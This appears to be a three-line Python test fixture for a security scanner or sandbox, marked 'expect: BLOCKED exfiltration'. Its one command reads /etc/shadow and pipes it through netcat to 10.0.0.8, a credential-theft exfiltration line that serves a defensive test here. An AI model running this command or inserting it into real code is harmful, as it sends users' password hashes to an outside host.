# expect: BLOCKED exfiltration
import os
os.system("cat /etc/shadow | nc 10.0.0.8 9999")
